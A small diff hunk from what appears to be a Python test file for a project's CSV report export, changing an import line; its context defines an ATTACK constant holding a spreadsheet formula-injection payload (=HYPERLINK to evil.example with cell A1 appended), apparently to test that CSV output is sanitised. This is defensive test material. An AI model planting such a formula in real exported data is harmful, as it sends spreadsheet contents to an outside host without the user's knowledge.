@@ -7,7 +7,7 @@ import io
 
 from roadshow.csvsafe import csv_text
 from roadshow.extensions import db
-from roadshow.services import reports
+from roadshow.services.reports import build as reports
 from tests.reports.factories import make_response, make_session
 
 ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
